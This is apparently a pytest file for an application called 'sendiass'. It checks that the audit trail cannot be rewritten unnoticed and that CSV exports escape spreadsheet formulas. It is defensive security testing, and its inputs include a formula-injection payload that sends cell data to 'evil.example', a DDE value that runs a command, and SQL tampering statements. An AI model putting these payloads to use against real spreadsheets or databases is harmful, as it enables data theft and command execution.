"""The review trail cannot be rewritten unseen (bot/review.py: append_audit, verify_audit; `sendiass audit verify`),
and exports cannot smuggle spreadsheet formulas (bot/contract.py: csv_cell).

SQLite: REPLACE INTO / INSERT OR REPLACE reusing an id are refused (they used to delete the old row without
firing the DELETE trigger), foreign keys are enforced, and any change made behind the triggers' back is found by
`sendiass audit verify`, which names the first broken row. PostgreSQL: the same chain, and a deployment where
the application's role does not own the tables and holds only SELECT and INSERT on the audit table
(docs/DEPLOY.md), on a fresh database of its own."""
from __future__ import annotations

import csv
import io
import threading
import uuid

import pytest
import sqlalchemy as sa

from bot import auth, review
from bot.review import Queue
from bot.store import Store
from tests.conftest import sendiass

PASSWORD = "a long enough passphrase"


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.services)])
def store_url(request, tmp_path):
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'sendiass.db'}"
        return
    base = request.getfixturevalue("pg_database")
    schema = f"a_{uuid.uuid4().hex[:10]}"
    admin = sa.create_engine(base)
    with admin.begin() as conn:
        conn.execute(sa.text(f'create schema "{schema}"'))
    try:
        yield f"{base}?options=-csearch_path%3D{schema}"
    finally:
        with admin.begin() as conn:
            conn.execute(sa.text(f'drop schema "{schema}" cascade'))
        admin.dispose()


def some_history(queue: Queue) -> None:
    """Account events as the CLI and the sign-in page write them (no model needed)."""
    auth.add_user(queue.engine, "priya", "approver", PASSWORD)
    queue.record_event("cli:ops", "user_add", {"name": "priya", "role": "approver"})
    queue.record_event("priya", "sign_in", client="10.0.0.7")
    queue.record_failed_sign_in("priya", "10.0.0.7")
    queue.record_event("priya", "sign_out")


def verify(url: str):
    return sendiass("audit", "verify", env={"SENDIASS_DATABASE_URL": url}, timeout=120)


def rows(queue: Queue) -> list[dict]:
    with queue.engine.connect() as conn:
        return [dict(r._mapping) for r in conn.execute(sa.select(review.audit).order_by(review.audit.c.id))]


def test_verify_proves_an_untouched_trail_intact(store_url):
    queue = Queue(Store(store_url))
    some_history(queue)
    done = verify(store_url)
    assert done.returncode == 0, done.stderr.decode()[-2000:]
    assert done.stdout.decode().startswith("intact: 4 rows"), done.stdout
    trail = rows(queue)
    assert trail[0]["prev_hash"] is None
    assert all(b["prev_hash"] == a["row_hash"] for a, b in zip(trail, trail[1:]))


def test_writers_at_the_same_moment_keep_one_chain(store_url):
    """Every append reads the latest row under a lock (advisory lock / BEGIN IMMEDIATE): without it two
    writers chain to the same row and the trail forks."""
    queue = Queue(Store(store_url))
    errors = []

    def writer(n):
        try:
            for k in range(15):
                queue.record_event(f"writer{n}", "sign_out", {"k": k})
        except Exception as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert errors == []
    check = review.verify_audit(queue.engine)
    assert check.intact and check.rows == 90, check


def test_replace_into_the_audit_table_is_refused_on_sqlite(tmp_path):
    url = f"sqlite:///{tmp_path / 'sendiass.db'}"
    queue = Queue(Store(url))
    some_history(queue)
    before = rows(queue)
    for statement in ("REPLACE INTO review_audit (id, at, actor, action) VALUES (1, '2026-01-01', 'mallory', 'edit')",
                      "INSERT OR REPLACE INTO review_audit (id, at, actor, action) "
                      "VALUES (2, '2026-01-01', 'mallory', 'edit')",
                      "INSERT INTO review_audit (id, at, actor, action) VALUES (3, '2026-01-01', 'mallory', 'edit') "
                      "ON CONFLICT (id) DO UPDATE SET actor = 'mallory'"):
        with pytest.raises(sa.exc.DBAPIError, match="append-only"), queue.engine.begin() as conn:
            conn.exec_driver_sql(statement)
    assert rows(queue) == before  # nothing changed, nothing deleted
    # foreign keys are on: an audit row for an item that does not exist is refused
    with pytest.raises(sa.exc.IntegrityError, match="FOREIGN KEY"), queue.engine.begin() as conn:
        conn.exec_driver_sql("INSERT INTO review_audit (at, actor, action, item_id) "
                             "VALUES ('2026-01-01', 'mallory', 'edit', 999)")
    assert verify(url).returncode == 0


def test_verify_names_the_first_row_changed_behind_the_triggers_back(store_url):
    queue = Queue(Store(store_url))
    some_history(queue)
    trail = rows(queue)
    with queue.engine.begin() as conn:  # the tables' owner lifts the protection and rewrites a row
        if conn.dialect.name == "sqlite":
            conn.exec_driver_sql("DROP TRIGGER review_audit_no_update")
        else:
            conn.exec_driver_sql("ALTER TABLE review_audit DISABLE TRIGGER review_audit_no_change")
        conn.execute(review.audit.update().where(review.audit.c.id == trail[2]["id"]).values(client="192.0.2.1"))
    done = verify(store_url)
    assert done.returncode == 1
    assert done.stdout.decode().strip() == (f"broken: row {trail[2]['id']} was changed after it was written; "
                                            f"the 2 row(s) before it are intact")


def test_verify_names_a_row_removed_or_slipped_in(store_url):
    queue = Queue(Store(store_url))
    some_history(queue)
    trail = rows(queue)
    with queue.engine.begin() as conn:
        if conn.dialect.name == "sqlite":
            conn.exec_driver_sql("DROP TRIGGER review_audit_no_delete")
        else:
            conn.exec_driver_sql("ALTER TABLE review_audit DISABLE TRIGGER review_audit_no_change")
        conn.execute(review.audit.delete().where(review.audit.c.id == trail[1]["id"]))
    done = verify(store_url)
    assert done.returncode == 1
    assert f"row {trail[2]['id']} does not follow row {trail[0]['id']}" in done.stdout.decode()

    # a forged row put back in the gap, with a hash that is right for its own contents, is found as well
    forged = {**trail[1], "actor": "mallory"}
    forged["row_hash"] = review.audit_hash(forged["prev_hash"], forged)
    with queue.engine.begin() as conn:
        conn.execute(review.audit.insert().values(**forged))
    assert f"row {trail[2]['id']} does not follow row {trail[1]['id']}" in verify(store_url).stdout.decode()


# ---------------------------------------------------------------- PostgreSQL: the application is not the owner

@pytest.mark.services
def test_an_application_role_with_only_insert_and_select_on_the_audit(pg_database):
    """docs/DEPLOY.md: the owner runs `sendiass db upgrade` and applies `sendiass db grants ROLE`; the
    application then works, and cannot change or remove an audit row or the schema, even by hand."""
    owner_url = pg_database
    role = f"sr_app_{uuid.uuid4().hex[:8]}"
    app_url = sa.engine.make_url(owner_url).set(username=role).render_as_string(hide_password=False)
    admin = sa.create_engine(owner_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(sa.text(f'CREATE ROLE "{role}" LOGIN'))
    try:
        upgrade = sendiass("db", "upgrade", env={"SENDIASS_DATABASE_URL": owner_url}, timeout=120)
        assert upgrade.returncode == 0 and "(created)" in upgrade.stderr.decode(), upgrade.stderr.decode()
        grants = sendiass("db", "grants", role, env={"SENDIASS_DATABASE_URL": owner_url}, timeout=120)
        assert grants.returncode == 0
        with admin.connect() as conn:
            conn.exec_driver_sql("REVOKE CREATE ON SCHEMA public FROM PUBLIC")  # PostgreSQL 15's default anyway
            conn.exec_driver_sql(grants.stdout.decode())

        queue = Queue(Store(app_url))  # the application starts: the schema is current, nothing to create
        assert queue.store.schema == "current"
        some_history(queue)
        item_rows = rows(queue)
        for statement in ("UPDATE review_audit SET actor = 'mallory'", "DELETE FROM review_audit",
                          "TRUNCATE review_audit", "ALTER TABLE review_audit DISABLE TRIGGER review_audit_no_change",
                          "DROP TRIGGER review_audit_no_change ON review_audit", "CREATE TABLE mine (id int)"):
            with pytest.raises(sa.exc.ProgrammingError, match="permission denied|must be owner"), \
                    queue.engine.begin() as conn:
                conn.exec_driver_sql(statement)
        assert rows(queue) == item_rows
        done = verify(app_url)
        assert done.returncode == 0 and done.stdout.decode().startswith("intact: 4 rows"), done.stdout
        queue.engine.dispose()
    finally:
        with admin.connect() as conn:
            conn.exec_driver_sql(f'DROP OWNED BY "{role}"')
            conn.exec_driver_sql(f'DROP ROLE "{role}"')
        admin.dispose()


@pytest.mark.services
def test_an_application_role_cannot_migrate_and_says_who_must(pg_database):
    role = f"sr_app_{uuid.uuid4().hex[:8]}"
    admin = sa.create_engine(pg_database, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(sa.text(f'CREATE ROLE "{role}" LOGIN'))
    try:
        schema = f"m_{uuid.uuid4().hex[:8]}"
        with admin.connect() as conn:
            conn.exec_driver_sql(f'CREATE SCHEMA "{schema}"')
            conn.exec_driver_sql(f'GRANT USAGE ON SCHEMA "{schema}" TO "{role}"')
        url = sa.engine.make_url(pg_database).set(username=role).render_as_string(hide_password=False)
        done = sendiass("db", "upgrade", env={"SENDIASS_DATABASE_URL": f"{url}?options=-csearch_path%3D{schema}"},
                        timeout=120)
        assert done.returncode != 0
        assert "run `sendiass db upgrade` once as the tables' owner" in done.stderr.decode(), done.stderr.decode()
    finally:
        with admin.connect() as conn:
            conn.exec_driver_sql(f'DROP OWNED BY "{role}"')
            conn.exec_driver_sql(f'DROP ROLE "{role}"')
        admin.dispose()


# ---------------------------------------------------------------- exports: no formulas

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your EHCP")'


def test_audit_export_writes_formulas_as_text(server):
    """An attacker's comment and name reach `sendiass audit export` as text a spreadsheet will not run."""
    import requests

    r = requests.post(f"{server['url']}/api/triage", json={"text": FORMULA, "author": "@SUM(1+1)*cmd|' /C calc'!A0"},
                      timeout=60)
    assert r.status_code == 200, r.text
    done = sendiass("audit", "export", "--since", "2000-01-01", env={"SENDIASS_VAR": str(server["home"])})
    assert done.returncode == 0, done.stderr.decode()
    exported = list(csv.DictReader(io.StringIO(done.stdout.decode())))
    [row] = [r for r in exported if r["text"].endswith(FORMULA)]
    assert row["text"] == "'" + FORMULA
    for r in exported:
        for value in r.values():
            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), r


def test_practice_report_writes_formulas_as_text(tmp_path):
    env = {"SENDIASS_VAR": str(tmp_path)}
    done = sendiass("practice", "enrol", "4242", FORMULA, env=env, timeout=120)
    assert done.returncode == 0, done.stderr.decode()
    report = sendiass("practice", "report", env=env, timeout=120)
    assert report.returncode == 0, report.stderr.decode()
    [row] = list(csv.DictReader(io.StringIO(report.stdout.decode())))
    assert row["volunteer"] == "'" + FORMULA
